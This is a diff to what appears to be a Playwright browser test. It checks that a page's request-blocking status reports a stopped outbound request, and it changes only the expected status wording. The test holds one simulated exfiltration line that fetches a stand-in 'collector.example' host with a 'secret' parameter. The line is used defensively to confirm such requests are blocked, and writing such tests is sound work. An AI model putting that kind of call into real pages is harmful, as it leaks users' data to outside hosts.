@@ -120,7 +120,7 @@ test.describe('without headers', () => {
     expect(response?.headers()['content-security-policy']).toBeUndefined();
     await page.evaluate(() => fetch('https://collector.example/?secret').catch(() => {}));
     await expect(page.getByRole('status', { name: 'Requests that left this page' })).toHaveText(
-      '0 requests left this page; 1 request stopped',
+      '0 requests to other sites; 1 request stopped',
     );
   });
 });
